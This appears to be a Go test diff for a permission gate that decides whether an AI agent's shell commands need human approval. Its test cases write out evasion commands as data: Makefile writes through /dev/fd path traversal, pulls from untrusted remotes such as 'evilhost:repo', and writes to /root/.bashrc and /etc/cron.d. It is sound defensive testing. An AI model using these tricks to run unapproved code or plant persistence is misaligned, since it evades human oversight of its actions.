@@ -378,3 +378,28 @@ func TestEighteenthPassChains(t *testing.T) {
 		t.Errorf("pytest after a checkout of origin/evil: %v (%s); want an ask, the branch is code no decision saw written", d.GetVerdict(), d.GetReason())
 	}
 }
+
+// TestNineteenthPassChains: /dev/fd is /proc/self/fd, so
+// /dev/fd/../cwd/Makefile is the project's Makefile, not a harmless
+// sink; and a pull from a repository other than the project's own remotes
+// (a directory the agent made, a host it names) brings code no decision
+// saw written.
+func TestNineteenthPassChains(t *testing.T) {
+	l := limentest.Start(t)
+	c := l.Client
+	teach(t, c, sh("ana", "make test"), sh("ana", "git pull origin main"))
+	for _, writer := range []string{"echo 'all: ; @id' > /dev/fd/../cwd/Makefile", "cat notes.md > /dev/fd/1/../../cwd/Makefile",
+		"git pull --rebase build main", "git pull evilhost:repo main", "git pull evilrepo main"} {
+		decideOnce(t, c, sh("ana", writer), false) // asked or allowed, what it writes is recorded
+		d := decideOnce(t, c, sh("ana", "make test"), false)
+		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
+			t.Fatalf("make test after %s: %v (%s); want an ask because it runs what an agent wrote", writer, d.GetVerdict(), d.GetReason())
+		}
+		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+	}
+	for _, cmd := range []string{"echo x > /dev/fd/../root/.bashrc", "echo x > /dev/fd/../root/../etc/cron.d/x"} {
+		if d := decideOnce(t, c, sh("ana", cmd), true); d.GetVerdict() == limenv1.Verdict_VERDICT_ALLOW {
+			t.Errorf("%s: allowed (%s)", cmd, d.GetReason())
+		}
+	}
+}
